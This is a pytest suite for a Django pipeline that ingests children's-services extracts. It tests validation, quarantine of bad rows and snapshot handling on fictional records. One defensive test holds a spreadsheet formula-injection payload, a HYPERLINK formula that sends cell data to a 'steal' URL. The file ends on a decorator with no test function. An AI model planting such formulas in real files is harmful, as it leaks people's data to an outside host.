"""Ingest: every validation rule, every kind of bad input, atomicity and idempotency."""

import csv
import json
from io import StringIO
from pathlib import Path

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError

from familyview.involvements.models import Involvement
from familyview.sources.ingest import ingest
from familyview.sources.models import (
    ExtractImport,
    PersonRecord,
    QuarantinedRow,
    Source,
    SourceRelationship,
)
from familyview.sources.readers import ExtractRejected

from .extracts import (
    PEOPLE_COLUMNS,
    involvement,
    person,
    write_csv,
    write_extract,
    write_jsonl,
)

pytestmark = pytest.mark.django_db


def database_state() -> dict:
    """Everything an import may write, other than its own history row."""
    return {
        "people": sorted(PersonRecord.objects.values_list()),
        "involvements": sorted(Involvement.objects.values_list()),
        "relationships": sorted(SourceRelationship.objects.values_list()),
        "quarantine": sorted(QuarantinedRow.objects.values_list()),
        "loaded": sorted(
            ExtractImport.objects.filter(status="loaded").values_list("id", "checksum")
        ),
    }


def run(folder: Path, source: str = "CSC") -> ExtractImport:
    return ingest(source, [folder], "tester").extract_import


def quarantined(imp: ExtractImport) -> list[QuarantinedRow]:
    return list(imp.quarantined_rows.order_by("row_number"))


@pytest.fixture
def loaded(source, tmp_path) -> ExtractImport:
    """A first good extract: two people, one involvement, one relationship."""
    imp = run(
        write_extract(
            tmp_path / "first",
            people=[person("P1"), person("P2", given_name="Jo", date_of_birth="1988-06-01")],
            involvements=[involvement("I1", "P1")],
            relationships=[
                {"person_source_id": "P1", "related_source_id": "P2", "relationship_type": "mother"}
            ],
            extracted_at="2026-11-01T02:00:00Z",
        )
    )
    assert imp.status == "loaded", imp.message
    return imp


def test_a_good_extract_loads_every_kind(loaded):
    assert (loaded.people_accepted, loaded.involvements_accepted) == (2, 1)
    assert loaded.relationships_accepted == 1
    assert loaded.rows_quarantined == 0
    child = PersonRecord.objects.get(source_record_id="P1")
    assert (child.birth_year, child.birth_month, child.birth_day) == (2015, 4, 3)
    assert child.postcode == "SK1 3XE"
    inv = Involvement.objects.get()
    assert inv.person_record == child
    assert inv.lead_email == "sam.worker@stockport.gov.uk"
    rel = SourceRelationship.objects.get()
    assert (rel.person_record, rel.relationship_type) == (child, "mother")
    assert loaded.extracted_at.isoformat() == "2026-11-01T02:00:00+00:00"


def test_excel_csv_with_bom_crlf_and_multiline_fields(source, tmp_path):
    folder = write_extract(
        tmp_path / "x",
        people=[person("P1", address_line1="Flat 2\r\n14 Hope Street", given_name="Zoë")],
        bom=True,
        crlf=True,
    )
    imp = run(folder)
    assert imp.status == "loaded", imp.message
    record = PersonRecord.objects.get()
    assert record.given_name == "Zoë"
    assert record.address_line1 == "Flat 2\r\n14 Hope Street"


def test_semicolon_csv_with_old_mac_line_endings(source, tmp_path):
    # European-locale Excel separates with semicolons; old Mac exports end lines with CR.
    folder = write_extract(tmp_path / "x")
    out = StringIO()
    writer = csv.DictWriter(out, fieldnames=PEOPLE_COLUMNS, delimiter=";", lineterminator="\r")
    writer.writeheader()
    writer.writerow(person("P1", address_line1="14 Hope Street, Heaton"))
    writer.writerow(person("P2", given_name="Zoë"))
    (folder / "people.csv").write_text(out.getvalue(), encoding="utf-8")
    imp = run(folder)
    assert imp.status == "loaded", imp.message
    assert imp.people_accepted == 2
    assert PersonRecord.objects.get(source_record_id="P1").address_line1 == "14 Hope Street, Heaton"
    assert PersonRecord.objects.get(source_record_id="P2").given_name == "Zoë"


def test_json_lines_with_details_as_an_object(source, tmp_path):
    folder = write_extract(tmp_path / "x")
    write_jsonl(folder / "people.jsonl", [person("P1", restricted=True)])
    write_jsonl(
        folder / "involvements.jsonl",
        [involvement("I1", "P1", details={"offences": [{"type": "assault"}]}, team=None)],
    )
    imp = run(folder)
    assert imp.status == "loaded", imp.message
    assert PersonRecord.objects.get().restricted is True
    assert Involvement.objects.get().details == {"offences": [{"type": "assault"}]}


# Files rejected whole: each gives a clear message and leaves the database as it was.


@pytest.mark.parametrize(
    ("write_people", "expected"),
    [
        (
            lambda p: p.write_bytes("source_id,given_name\nP9,Ren\xe9e\n".encode("latin-1")),
            "people.csv is not UTF-8: byte 0xE9 on line 2",
        ),
        (
            lambda p: p.write_bytes("source_id,given_name\nP9,Renee\n".encode("utf-16")),
            "people.csv is UTF-16, not UTF-8",
        ),
        (
            lambda p: p.write_text("given_name,family_name\nAlex,Example\n"),
            "people.csv: required column(s) missing: source_id",
        ),
        (
            lambda p: p.write_text("source_id,given_name,shoe_size\nP9,Alex,9\n"),
            "people.csv: unknown column(s) shoe_size",
        ),
        (lambda p: p.write_text(""), "people.csv is empty"),
        (lambda p: p.write_text("\r\n  \n"), "people.csv is empty"),
        (
            lambda p: p.write_text(",".join(PEOPLE_COLUMNS) + "\n"),
            "people.csv has a header but no rows",
        ),
        (
            lambda p: p.write_text("source_id,given_name,given_name\nP9,A,B\n"),
            "people.csv: column given_name appears more than once",
        ),
        (
            lambda p: p.write_text('source_id,given_name\nP9,"unclosed\n'),
            "people.csv: row 2 cannot be read as CSV",
        ),
    ],
    ids=[
        "latin-1",
        "utf-16",
        "missing-column",
        "extra-column",
        "empty",
        "blank-lines",
        "header-only",
        "duplicate-column",
        "broken-quoting",
    ],
)
def test_unreadable_files_are_rejected_whole(loaded, tmp_path, write_people, expected):
    before = database_state()
    folder = write_extract(tmp_path / "bad", extracted_at="2026-11-08T02:00:00Z")
    write_people(folder / "people.csv")
    imp = run(folder)
    assert imp.status == "rejected"
    assert expected in imp.message
    assert database_state() == before


def test_bad_metadata_is_rejected_whole(loaded, tmp_path):
    before = database_state()
    folder = write_extract(tmp_path / "bad", people=[person("P1")])
    (folder / "extract.json").write_text(json.dumps({"source": "CSC", "extracted_at": "yesterday"}))
    imp = run(folder)
    assert imp.status == "rejected"
    assert "extracted_at 'yesterday' is not an ISO 8601 time" in imp.message
    (folder / "extract.json").write_text(
        json.dumps({"source": "POLICE", "extracted_at": "2026-11-09T00:00:00Z"})
    )
    imp = run(folder)
    assert "the extract says it is from source 'POLICE', not 'CSC'" in imp.message
    assert database_state() == before


def test_an_unknown_file_in_the_extract_is_rejected(source, tmp_path):
    folder = write_extract(tmp_path / "x", people=[person("P1")])
    (folder / "notes.txt").write_text("hello")
    imp = run(folder)
    assert imp.status == "rejected"
    assert "notes.txt is not a file this source sends" in imp.message
    assert not PersonRecord.objects.exists()


def test_extra_columns_load_when_the_mapping_ignores_them(source, tmp_path, settings):
    mapping = tmp_path / "csc.toml"
    mapping.write_text(
        'name = "CSC"\nignore_columns = ["Worker Notes"]\n'
        '[people.columns]\nsource_id = "Person ID"\ngiven_name = "Forename"\n'
        '[people.values.sex]\nF = "female"\n'
    )
    source.mapping = str(mapping)
    source.save()
    folder = write_extract(tmp_path / "x")
    (folder / "people.csv").write_text("Person ID,Forename,sex,Worker Notes\nP1,Ann,F,private\n")
    imp = run(folder)
    assert imp.status == "loaded", imp.message
    record = PersonRecord.objects.get()
    assert (record.source_record_id, record.given_name, record.sex) == ("P1", "Ann", "female")


def test_an_unknown_column_is_named_with_the_columns_the_mapping_expects(source, tmp_path):
    mapping = tmp_path / "csc.toml"
    mapping.write_text(
        'name = "CSC"\n[people.columns]\nsource_id = "Person ID"\ngiven_name = "Forename"\n'
    )
    source.mapping = str(mapping)
    source.save()
    folder = write_extract(tmp_path / "x")
    (folder / "people.csv").write_text("Person ID,Forename,Shoe Size\nP1,Ann,9\n")

    imp = run(folder)

    assert imp.status == "rejected"
    expected = ", ".join(["Person ID", "Forename", *PEOPLE_COLUMNS[2:]])
    assert (
        f"people.csv: unknown column(s) Shoe Size; the columns this source's mapping (CSC) "
        f"expects in people.csv are {expected}."
    ) in imp.message
    assert "list them under ignore_columns" in imp.message


def test_a_file_with_no_known_column_is_told_which_columns_are_expected(source, tmp_path):
    folder = write_extract(tmp_path / "x")
    (folder / "people.csv").write_text("P1,Ann,Example\nP2,Ben,Example\n")

    imp = run(folder)

    assert imp.status == "rejected"
    assert "is the header row missing?" in imp.message
    assert f"expects in people.csv are {', '.join(PEOPLE_COLUMNS)}" in imp.message
    assert "Ann" not in imp.message


def test_an_unknown_field_in_extract_json_is_named_with_the_fields_it_may_hold(source, tmp_path):
    folder = write_extract(tmp_path / "x", people=[person("P1")])
    meta = json.loads((folder / "extract.json").read_text())
    (folder / "extract.json").write_text(json.dumps({**meta, "extracted": "2026-11-20"}))

    imp = run(folder)

    assert imp.status == "rejected"
    assert imp.message == (
        "extract.json: unknown field(s) extracted; the fields of extract.json are source, "
        "extracted_at, kind, coverage_start, coverage_end, coverage_area"
    )


# Row rules: the row is quarantined with its number, field and reason; the rest loads.


@pytest.mark.parametrize(
    ("fields", "field", "reason"),
    [
        ({"date_of_birth": "2015-13-45"}, "date_of_birth", "'2015-13-45' is not a real date"),
        ({"date_of_birth": "2021-02-29"}, "date_of_birth", "'2021-02-29' is not a real date"),
        ({"date_of_birth": "03/04/2015"}, "date_of_birth", "is not a real date (expected YYYY"),
        ({"date_of_birth": "2099-01-01"}, "date_of_birth", "is in the future"),
        ({"date_of_birth": "1850"}, "date_of_birth", "is before 1900"),
        (
            {"date_of_birth": "2001-01-01", "date_of_death": "2000-01-01"},
            "date_of_death",
            "is before the date of birth",
        ),
        ({"nhs_number": "943 476 5918"}, "nhs_number", "fails the NHS number check digit"),
        ({"nhs_number": "12345"}, "nhs_number", "must be 10 digits"),
        ({"postcode": "NOT A POSTCODE"}, "postcode", "is not a postcode: neither UK-shaped"),
        ({"sex": "f"}, "sex", "'f' is not a known sex"),
        ({"uprn": "12AB"}, "uprn", "is not a UPRN"),
        ({"upn": "123"}, "upn", "is not a Unique Pupil Number"),
        ({"restricted": "maybe"}, "restricted", "'maybe' is not true or false"),
        ({"given_name": "A" * 101}, "given_name", "is 101 characters long; at most 100 allowed"),
        ({"date_of_death": "1938-11-31"}, "date_of_death", "'1938-11-31' is not a real date"),
    ],
)
def test_a_bad_value_is_held_back_and_the_rest_of_the_record_kept(
    source, tmp_path, fields, field, reason
):
    folder = write_extract(tmp_path / "x", people=[person("GOOD"), person("BAD", **fields)])
    imp = run(folder)
    assert imp.status == "loaded", imp.message
    assert (imp.people_accepted, imp.rows_quarantined, imp.fields_held_back) == (2, 0, 1)
    [row] = quarantined(imp)
    assert (row.row_number, row.field, row.file_name, row.row_kept) == (
        3,
        field,
        "people.csv",
        True,
    )
    assert reason in row.reason
    assert row.value == fields[field]
    # The row is kept verbatim too: nothing is lost.
    assert "BAD" in row.raw
    bad = PersonRecord.objects.get(source_record_id="BAD")
    assert bad.family_name == "Example"
    if field == "date_of_birth":
        assert bad.birth_year is None
    elif field != "date_of_death":
        assert getattr(bad, field) in ("", False)


def test_a_row_without_a_usable_source_id_is_quarantined_whole(source, tmp_path):
    folder = write_extract(
        tmp_path / "x", people=[person("GOOD"), person("X" * 65, nhs_number="12345")]
    )
    imp = run(folder)
    assert (imp.people_accepted, imp.rows_quarantined, imp.fields_held_back) == (1, 1, 0)
    [row] = quarantined(imp)
    assert (row.row_number, row.row_kept) == (3, False)
    assert "source_id is 65 characters long; at most 64" in row.reason
    assert "nhs_number must be 10 digits" in row.reason
    assert list(PersonRecord.objects.values_list("source_record_id", flat=True)) == ["GOOD"]


def test_one_impossible_date_of_birth_loses_nothing_else(source, tmp_path):
    folder = write_extract(
        tmp_path / "x",
        people=[person("CHILD", date_of_birth="1938-11-31"), person("MUM")],
        involvements=[involvement("I1", "CHILD")],
        relationships=[
            {"person_source_id": "CHILD", "related_source_id": "MUM", "relationship_type": "mother"}
        ],
    )
    imp = run(folder)
    assert imp.status == "loaded", imp.message
    assert (imp.people_accepted, imp.involvements_accepted, imp.relationships_accepted) == (
        2,
        1,
        1,
    )
    assert (imp.rows_quarantined, imp.fields_held_back) == (0, 1)
    child = PersonRecord.objects.get(source_record_id="CHILD")
    assert (child.given_name, child.birth_year) == ("Alex", None)
    assert Involvement.objects.get().person_record == child
    [held] = quarantined(imp)
    assert (held.field, held.value, held.row_number) == ("date_of_birth", "1938-11-31", 2)
    out = StringIO()
    call_command("quarantine", str(imp.pk), stdout=out)
    assert "people.csv row 2, column date_of_birth: '1938-11-31' held back" in out.getvalue()
    assert "the rest of the row was loaded" in out.getvalue()
    # Without a number: the latest imports, each with its number and what it held back.
    out = StringIO()
    call_command("quarantine", stdout=out)
    assert f"{imp.pk:>6}  CSC" in out.getvalue()
    assert "0 rows quarantined, 1 values held back" in out.getvalue()


def test_quarantine_without_a_number_before_any_import_says_so(db):
    out = StringIO()
    call_command("quarantine", stdout=out)
    assert out.getvalue() == "No extract has been imported yet.\n"


def test_a_valid_nhs_number_and_partial_dates_of_birth_load(source, tmp_path):
    folder = write_extract(
        tmp_path / "x",
        people=[
            person("A", nhs_number="943 476 5919", date_of_birth="1990"),
            person("B", date_of_birth="1990-07", postcode="sk13xe"),
        ],
    )
    imp = run(folder)
    assert imp.rows_quarantined == 0, quarantined(imp)[0].reason
    a = PersonRecord.objects.get(source_record_id="A")
    b = PersonRecord.objects.get(source_record_id="B")
    assert (a.nhs_number, a.birth_year, a.birth_month) == ("9434765919", 1990, None)
    assert (b.birth_year, b.birth_month, b.birth_day, b.postcode) == (1990, 7, None, "SK1 3XE")


def test_involvement_rules(source, tmp_path):
    folder = write_extract(
        tmp_path / "x",
        people=[person("P1")],
        involvements=[
            involvement("I1", "P1"),
            involvement("I2", "P1", service_category="astrology"),
            involvement("I3", "P1", status="open"),
            involvement("I4", "P1", start_date="2025-05-01", end_date="2025-04-01"),
            involvement("I5", "P1", lead_email="not-an-email"),
            involvement("I6", "P1", details="{not json"),
            involvement("I7", "P1", lead_phone="call me"),
        ],
    )
    imp = run(folder)
    reasons = {q.row_number: (q.field, q.reason, q.row_kept) for q in quarantined(imp)}
    # Only an involvement of no known service cannot be one; the others load without
    # their bad value, which is held back.
    assert imp.involvements_accepted == 6
    assert (imp.rows_quarantined, imp.fields_held_back) == (1, 5)
    assert reasons[3][0] == "service_category" and not reasons[3][2]
    assert "'astrology' is not a known service category (" in reasons[3][1]
    assert "'open' is not a known status" in reasons[4][1] and reasons[4][2]
    assert Involvement.objects.get(source_involvement_id="I3").status == "not_recorded"
    assert reasons[5][0] == "end_date" and "is before the start date" in reasons[5][1]
    assert Involvement.objects.get(source_involvement_id="I4").end_date is None
    assert "is not an email address" in reasons[6][1]
    assert "is not valid JSON" in reasons[7][1]
    assert "is not a phone number" in reasons[8][1]


def test_a_formula_is_kept_as_inert_text(source, tmp_path):
    formula = '=HYPERLINK("http://example.com/steal?x="&A1,"Click")'
    folder = write_extract(tmp_path / "x", people=[person("P1", family_name=formula)])
    imp = run(folder)
    assert imp.status == "loaded"
    assert PersonRecord.objects.get().family_name == formula


def test_duplicate_source_ids_hold_back_every_copy(source, tmp_path):
    folder = write_extract(
        tmp_path / "x",
        people=[person("P1"), person("P2"), person("P1", given_name="Other")],
    )
    imp = run(folder)
    assert imp.people_accepted == 1
    rows = quarantined(imp)
    assert [r.row_number for r in rows] == [2, 4]
    assert "P1 also appears in row(s) 4" in rows[0].reason
    assert list(PersonRecord.objects.values_list("source_record_id", flat=True)) == ["P2"]


def test_a_relationship_pointing_at_an_unknown_person_is_quarantined(source, tmp_path):
    folder = write_extract(
        tmp_path / "x",
        people=[person("P1"), person("P2")],
        relationships=[
            {"person_source_id": "P1", "related_source_id": "P2", "relationship_type": "sibling"},
            {
                "person_source_id": "P1",
                "related_source_id": "NOBODY",
                "relationship_type": "father",
            },
            {"person_source_id": "P1", "related_source_id": "P1", "relationship_type": "sibling"},
            {"person_source_id": "P1", "related_source_id": "P2", "relationship_type": "cousin"},
        ],
        involvements=[involvement("I1", "GHOST")],
    )
    imp = run(folder)
    assert imp.relationships_accepted == 1
    rows = {(q.file_name, q.row_number): q for q in quarantined(imp)}
    reasons = [q.reason for q in rows.values()]
    nobody = rows[("relationships.csv", 3)]
    assert nobody.field == "related_source_id"
    assert "points at person NOBODY, who is not in this extract" in nobody.reason
    assert nobody.raw == "P1,NOBODY,father,,"
    assert "points at person GHOST" in rows[("involvements.csv", 2)].reason
    assert any("is the same person as person_source_id" in r for r in reasons)
    assert any("'cousin' is not a known relationship type" in r for r in reasons)
    assert SourceRelationship.objects.count() == 1
    assert not Involvement.objects.exists()


# Snapshots, idempotency and history.


def test_the_same_extract_twice_changes_nothing(loaded, tmp_path):
    before = database_state()
    again = run(tmp_path / "first")
    assert again.status == "unchanged"
    assert f"loaded by import {loaded.pk}" in again.message
    assert database_state() == before


def test_an_identical_newer_snapshot_changes_no_record(loaded, tmp_path):
    before = database_state()["people"]
    folder = write_extract(
        tmp_path / "second",
        people=[person("P1"), person("P2", given_name="Jo", date_of_birth="1988-06-01")],
        involvements=[involvement("I1", "P1")],
        relationships=[
            {"person_source_id": "P1", "related_source_id": "P2", "relationship_type": "mother"}
        ],
        extracted_at="2026-11-08T02:00:00Z",
    )
    imp = run(folder)
    assert imp.status == "loaded"
    assert (imp.records_changed, imp.records_ended) == (0, 0)
    assert database_state()["people"] == before


def test_a_full_snapshot_ends_what_it_no_longer_holds(loaded, tmp_path):
    folder = write_extract(
        tmp_path / "second",
        people=[person("P1", given_name="Alexandra")],
        involvements=[],
        relationships=[],
        extracted_at="2026-11-08T02:00:00Z",
    )
    imp = run(folder)
    assert imp.status == "loaded", imp.message
    p1 = PersonRecord.objects.get(source_record_id="P1")
    p2 = PersonRecord.objects.get(source_record_id="P2")
    assert (p1.given_name, p1.ended_at, p1.changed_by_import_id) == ("Alexandra", None, imp.pk)
    assert p2.ended_at is not None and p2.ended_by_import_id == imp.pk
    assert Involvement.objects.get().ended_by_import_id == imp.pk
    assert SourceRelationship.objects.get().ended_by_import_id == imp.pk
    assert imp.records_ended == 3


def test_a_quarantined_person_keeps_their_last_good_record(loaded, tmp_path):
    folder = write_extract(
        tmp_path / "second",
        people=[person("P1", date_of_birth="not a date"), person("P2", given_name="Jo")],
        involvements=[involvement("I1", "P1")],
        extracted_at="2026-11-08T02:00:00Z",
    )
    imp = run(folder)
    assert imp.status == "loaded", imp.message
    p1 = PersonRecord.objects.get(source_record_id="P1")
    assert p1.ended_at is None and p1.birth_year == 2015
    # Their involvement still points at the record that was kept.
    assert Involvement.objects.get().ended_at is None


def test_a_reappearing_record_is_no_longer_ended(loaded, tmp_path):
    run(write_extract(tmp_path / "2", people=[person("P1")], extracted_at="2026-11-08T02:00:00Z"))
    assert PersonRecord.objects.get(source_record_id="P2").ended_at is not None
    run(
        write_extract(
            tmp_path / "3",
            people=[person("P1"), person("P2", given_name="Jo", date_of_birth="1988-06-01")],
            extracted_at="2026-11-15T02:00:00Z",
        )
    )
    assert PersonRecord.objects.get(source_record_id="P2").ended_at is None


def test_a_delta_changes_only_what_it_holds(loaded, tmp_path):
    folder = write_extract(
        tmp_path / "delta",
        people=[person("P3")],
        involvements=[involvement("I2", "P2")],
        extracted_at="2026-11-08T02:00:00Z",
        kind="delta",
    )
    imp = run(folder)
    assert imp.status == "loaded", imp.message
    assert imp.records_ended == 0
    assert PersonRecord.objects.filter(ended_at__isnull=True).count() == 3
    assert Involvement.objects.count() == 2


def test_an_older_snapshot_is_refused(loaded, tmp_path):
    before = database_state()
    folder = write_extract(
        tmp_path / "old", people=[person("P1")], extracted_at="2026-10-01T02:00:00Z"
    )
    imp = run(folder)
    assert imp.status == "rejected"
    assert "an older snapshot cannot replace a newer one" in imp.message
    assert database_state() == before


def test_history_records_who_when_checksum_and_counts(loaded):
    assert loaded.imported_by == "tester"
    assert len(loaded.checksum) == 64
    assert loaded.files == ["extract.json", "involvements.csv", "people.csv", "relationships.csv"]
    assert loaded.duration_ms is not None and loaded.finished_at is not None
    assert loaded.coverage_area == "Stockport"


def test_an_unknown_source_is_refused(tmp_path):
    with pytest.raises(ExtractRejected, match="no source with code 'NOPE'") as refused:
        ingest("NOPE", [write_extract(tmp_path / "x", people=[person("P1")])], "tester")
    assert "no sources are registered yet" in str(refused.value)
    assert "familyview sources load" in str(refused.value)


def test_an_unknown_source_is_refused_naming_the_registered_codes(source, tmp_path):
    Source.objects.create(authority=source.authority, code="GP", name="GP", service_category="gp")

    with pytest.raises(ExtractRejected) as refused:
        ingest("csc", [write_extract(tmp_path / "x", people=[person("P1")])], "tester")

    assert str(refused.value) == (
        "no source with code 'csc'; the registered sources are CSC, GP "
        "(register another with `familyview sources load`)"
    )


def test_an_unknown_source_among_many_names_the_first_twenty_and_counts_the_rest(source, tmp_path):
    Source.objects.bulk_create(
        Source(authority=source.authority, code=f"S{n:02d}", name="S", service_category="gp")
        for n in range(30)
    )

    with pytest.raises(ExtractRejected) as refused:
        ingest("NOPE", [write_extract(tmp_path / "x", people=[person("P1")])], "tester")

    first = ", ".join(["CSC", *(f"S{n:02d}" for n in range(19))])
    assert f"the registered sources are {first} and 11 more (" in str(refused.value)


def test_the_command_exits_non_zero_with_the_reason(source, tmp_path):
    folder = write_extract(tmp_path / "x")
    write_csv(folder / "people.csv", ["source_id", "hat"], [{"source_id": "P1", "hat": "x"}])
    with pytest.raises(
        CommandError, match=r"rejected, nothing loaded: people\.csv: unknown column"
    ):
        call_command("ingest", "--source", "CSC", "--quiet", str(folder))


# The Family Context common data model layout.

CDM_SCHOOL_HEADER = (
    "Cms Id,First Name,Last Name,Date Of Birth,Gender,Address,Service Involvement,School Name,"
    "Contact Number,Admission Type,Date Current As Of,Coverage Start Date,Coverage End Date,"
    "Coverage Geographic Area,Date Of Most Recent Interaction,Start Date Of Last Involvement"
)


def test_family_context_school_layout(source, tmp_path):
    source.mapping = "family-context-cdm-school"
    source.service_category = "education"
    source.save()
    path = tmp_path / "schools.csv"
    path.write_text(
        CDM_SCHOOL_HEADER
        + "\n"
        + '1001,Amelia,Hart,03/04/2015,F,"12 Mill Lane, Stockport SK4 2AB",Current,'
        "Hollywood Park Primary,0161 496 0456,Full time,20/11/2026,01/09/2020,20/11/2026,"
        "Stockport,18/11/2026,01/09/2020\n"
        + '1001,Amelia,Hart,03/04/2015,F,"12 Mill Lane, Stockport SK4 2AB",Historic,'
        "Bridge Hall Nursery,0161 496 0789,Part time,20/11/2026,01/09/2020,20/11/2026,"
        "Stockport,15/07/2019,01/09/2018\n",
        encoding="utf-8",
    )
    imp = ingest("CSC", [path], "tester").extract_import
    assert imp.status == "loaded", imp.message
    assert (imp.people_accepted, imp.involvements_accepted, imp.rows_quarantined) == (1, 2, 0)
    amelia = PersonRecord.objects.get()
    assert (amelia.given_name, amelia.sex, amelia.postcode) == ("Amelia", "female", "SK4 2AB")
    assert amelia.address_line1 == "12 Mill Lane, Stockport"
    current = Involvement.objects.get(status="current")
    assert current.organisation == "Hollywood Park Primary"
    assert current.details == {
        "school_name": "Hollywood Park Primary",
        "admission_type": "Full time",
    }
    assert current.duty_phone == "0161 496 0456"
    assert current.service_category == "education"
    assert imp.extracted_at.date().isoformat() == "2026-11-20"


def test_family_context_layout_names_an_unknown_column_with_the_columns_it_expects(
    source, tmp_path
):
    source.mapping = "family-context-cdm-school"
    source.save()
    path = tmp_path / "schools.csv"
    path.write_text(CDM_SCHOOL_HEADER + ",Shoe Size\n", encoding="utf-8")

    imp = ingest("CSC", [path], "tester").extract_import

    assert imp.status == "rejected"
    assert imp.message.startswith(
        "schools.csv: unknown column(s) Shoe Size for the Family Context common data model "
        f"(schools) layout; it expects {CDM_SCHOOL_HEADER.replace(',', ', ')}."
    )
    assert "list them under ignore_columns" in imp.message


def test_involvements_checked_in_another_process_give_the_same_result(
    source, tmp_path, monkeypatch
):
    import familyview.sources.ingest as ingest_module

    monkeypatch.setattr(ingest_module, "CONCURRENT_FROM_BYTES", 0)
    folder = write_extract(
        tmp_path / "x",
        people=[person("P1"), person("P2")],
        involvements=[
            involvement("I1", "P1"),
            involvement("I2", "GHOST"),
            involvement("I3", "P2", status="open"),
        ],
        relationships=[
            {"person_source_id": "P1", "related_source_id": "P2", "relationship_type": "sibling"}
        ],
    )
    imp = run(folder)
    assert imp.status == "loaded", imp.message
    assert (imp.involvements_accepted, imp.relationships_accepted) == (2, 1)
    assert [(q.file_name, q.row_number) for q in quarantined(imp)] == [
        ("involvements.csv", 3),
        ("involvements.csv", 4),
    ]


def test_a_file_rejected_in_another_process_loads_nothing(loaded, tmp_path, monkeypatch):
    import familyview.sources.ingest as ingest_module

    monkeypatch.setattr(ingest_module, "CONCURRENT_FROM_BYTES", 0)
    before = database_state()
    folder = write_extract(
        tmp_path / "x", people=[person("P9")], extracted_at="2026-11-09T00:00:00Z"
    )
    (folder / "involvements.csv").write_text("involvement_id,colour\nI1,red\n")
    imp = run(folder)
    assert imp.status == "rejected"
    assert "involvements.csv: unknown column(s) colour" in imp.message
    assert database_state() == before


# Safety on full snapshots: what cannot be read is never taken as gone.


def test_a_row_that_cannot_be_read_ends_nothing(loaded, tmp_path):
    folder = write_extract(
        tmp_path / "second", people=[person("P1")], extracted_at="2026-11-08T02:00:00Z"
    )
    with (folder / "people.csv").open("a") as f:
        f.write("P2,too,few\n")
    imp = run(folder)
    assert imp.status == "loaded", imp.message
    assert [q.reason for q in quarantined(imp)] == ["has 3 fields where the header has 17"]
    assert not PersonRecord.objects.filter(ended_at__isnull=False).exists()
    # Nor does a file not sent: its involvements and relationships are kept as they were.
    assert imp.records_ended == 0
    assert not Involvement.objects.filter(ended_at__isnull=False).exists()


def test_a_snapshot_that_would_end_most_people_is_refused(source, tmp_path):
    many = [person(f"P{i}") for i in range(120)]
    assert run(write_extract(tmp_path / "1", people=many)).status == "loaded"
    before = database_state()
    cut_short = write_extract(tmp_path / "2", people=many[:10], extracted_at="2026-11-21T02:00:00Z")
    imp = run(cut_short)
    assert imp.status == "rejected"
    assert "would end 110 of the source's 120 current people" in imp.message
    assert database_state() == before
    allowed = ingest("CSC", [cut_short], "tester", allow_mass_ending=True).extract_import
    assert (allowed.status, allowed.records_ended) == ("loaded", 110)


def test_a_held_back_relationship_is_matched_through_the_mapping(source, tmp_path):
    mapping = tmp_path / "csc.toml"
    mapping.write_text('name = "CSC"\n[relationships.values.relationship_type]\nMum = "mother"\n')
    source.mapping = str(mapping)
    source.save()
    rel = {"person_source_id": "P1", "related_source_id": "P2", "relationship_type": "Mum"}
    people = [person("P1"), person("P2")]
    assert run(write_extract(tmp_path / "1", people=people, relationships=[rel])).status == "loaded"
    broken = {**rel, "start_date": "not a date"}
    imp = run(
        write_extract(
            tmp_path / "2",
            people=people,
            relationships=[broken],
            extracted_at="2026-11-21T02:00:00Z",
        )
    )
    assert (imp.rows_quarantined, imp.fields_held_back) == (0, 1)
    assert SourceRelationship.objects.get().ended_at is None


def test_nul_characters_and_non_object_details_are_quarantined(source, tmp_path):
    folder = write_extract(tmp_path / "x")
    write_jsonl(folder / "people.jsonl", [person("P1"), person("P2", given_name="A\u0000B")])
    write_jsonl(
        folder / "involvements.jsonl",
        [involvement("I1", "P1", details=["a", "list"]), involvement("I2", "P1")],
    )
    imp = run(folder)
    assert imp.status == "loaded", imp.message
    reasons = sorted(q.reason for q in quarantined(imp))
    assert reasons == [
        "details must be a JSON object",
        "given_name holds a NUL character, which text cannot hold",
    ]


def test_a_missing_header_does_not_repeat_the_first_row(source, tmp_path):
    folder = write_extract(tmp_path / "x")
    (folder / "people.csv").write_text("P1,Jane,Smith,2014-03-07\nP2,John,Smith,2012-01-01\n")
    imp = run(folder)
    assert imp.status == "rejected"
    assert "is the header row missing?" in imp.message
    assert "Jane" not in imp.message and "2014" not in imp.message


def test_the_same_files_with_a_corrected_mapping_import_again(source, tmp_path):
    mapping = tmp_path / "csc.toml"
    mapping.write_text('name = "CSC"\n[people.values.sex]\nF = "female"\n')
    source.mapping = str(mapping)
    source.save()
    folder = write_extract(tmp_path / "x", people=[person("P1", sex="W")])
    first = run(folder)
    assert (first.fields_held_back, PersonRecord.objects.get().sex) == (1, "")
    mapping.write_text('name = "CSC"\n[people.values.sex]\nF = "female"\nW = "female"\n')
    again = run(folder)
    assert (again.status, again.people_accepted, again.fields_held_back) == ("loaded", 1, 0)
    assert PersonRecord.objects.get().sex == "female"


# Postcodes of other countries are kept as written, in both layouts.

CDM_HEADER = (
    "Cms Id,First Name,Last Name,Date Of Birth,Gender,Address,Service Involvement,"
    "Local Authority Organisation,Contact Name,Contact Role,Contact Phone,Contact Email,"
    "Date Current As Of,Coverage Start Date,Coverage End Date,Coverage Geographic Area,"
    "Date Of Most Recent Interaction,Start Date Of Last Involvement"
)


def cdm_row(person_id: str, address: str, status: str = "Current") -> str:
    quoted = '"' + address.replace('"', '""') + '"'
    return (
        f"{person_id},Amelia,Hart,03/04/2015,F,{quoted},{status},Stockport MBC,Sam Worker,"
        "Social worker,0161 496 0123,sam.worker@stockport.gov.uk,20/11/2026,01/09/2020,"
        "20/11/2026,Stockport,18/11/2026,01/09/2020"
    )


@pytest.mark.parametrize(
    ("address", "line1", "postcode"),
    [
        ("12 Mill Lane, Stockport SK4 2AB", "12 Mill Lane, Stockport", "SK4 2AB"),
        ("12 Mill Lane\nStockport\nsk4  2ab", "12 Mill Lane, Stockport", "SK4 2AB"),
        ("4 Beach Road, Southport QLD, 4223", "4 Beach Road, Southport QLD", "4223"),
        ("1 Ainslie Avenue\nCanberra\n2600", "1 Ainslie Avenue, Canberra", "2600"),
        ("Damrak 1, Amsterdam, 1012 ab", "Damrak 1, Amsterdam", "1012 AB"),
        ("1 Grafton Street, Dublin 2, D02  X285", "1 Grafton Street, Dublin 2", "D02 X285"),
        ("9 Rodeo Drive, Beverly Hills CA, 90210", "9 Rodeo Drive, Beverly Hills CA", "90210"),
        # A house number or a street is not a postcode.
        ("Flat 3, 12 High Street", "Flat 3, 12 High Street", ""),
        ("12 High Street", "12 High Street", ""),
        ("Stockport, Flat 12", "Stockport, Flat 12", ""),
        ("Rose Cottage, 123 Elm", "Rose Cottage, 123 Elm", ""),
    ],
)
